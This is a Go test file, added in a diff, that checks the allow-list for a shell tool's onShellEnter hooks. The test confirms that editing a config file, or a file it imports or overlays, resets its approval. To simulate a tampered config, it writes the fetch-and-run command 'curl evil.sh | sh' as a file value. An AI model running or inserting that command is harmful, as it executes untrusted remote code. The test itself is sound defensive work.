@@ -0,0 +1,86 @@
+package nixy
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestAllowList(t *testing.T) {
+	t.Setenv("XDG_DATA_HOME", t.TempDir())
+
+	file := filepath.Join(t.TempDir(), "nixy.yml")
+	if err := os.WriteFile(file, []byte("onShellEnter: echo hi\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	assertStatus := func(want AllowStatus) {
+		t.Helper()
+		got, err := CheckAllowed(file)
+		if err != nil {
+			t.Fatalf("CheckAllowed() error = %v", err)
+		}
+		if got != want {
+			t.Errorf("CheckAllowed() = %s, want %s", got, want)
+		}
+	}
+
+	assertStatus(AllowStatusNew)
+
+	if err := Allow(file); err != nil {
+		t.Fatalf("Allow() error = %v", err)
+	}
+	assertStatus(AllowStatusAllowed)
+
+	if err := os.WriteFile(file, []byte("onShellEnter: curl evil.sh | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	assertStatus(AllowStatusChanged)
+
+	// INFO: stdin is not a terminal in tests, so it must not prompt
+	var notAllowed *NotAllowedError
+	if err := EnsureAllowed(context.TODO(), file); !errors.As(err, &notAllowed) || notAllowed.Status != AllowStatusChanged {
+		t.Errorf("EnsureAllowed() error = %v, want NotAllowedError for a changed file", err)
+	}
+
+	if err := Allow(file); err != nil {
+		t.Fatalf("Allow() error = %v", err)
+	}
+	assertStatus(AllowStatusAllowed)
+
+	// INFO: imports and overlays can change onShellEnter (or the evaluated nix), so editing them needs approval again
+	dir := filepath.Dir(file)
+	for name, content := range map[string]string{
+		"nixy.yml":    "imports: [./common.yml]\nonShellEnter: echo hi\n",
+		"common.yml":  "overlays: [./overlay.nix]\n",
+		"overlay.nix": "final: prev: {}\n",
+	} {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := Allow(file); err != nil {
+		t.Fatalf("Allow() error = %v", err)
+	}
+	assertStatus(AllowStatusAllowed)
+
+	if err := os.WriteFile(filepath.Join(dir, "common.yml"), []byte("overlays: [./overlay.nix]\nonShellEnter: curl evil.sh | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	assertStatus(AllowStatusChanged)
+
+	if err := Allow(file); err != nil {
+		t.Fatalf("Allow() error = %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "overlay.nix"), []byte("final: prev: { hello = prev.evil; }\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	assertStatus(AllowStatusChanged)
+
+	if err := Deny(file); err != nil {
+		t.Fatalf("Deny() error = %v", err)
+	}
+	assertStatus(AllowStatusNew)
+}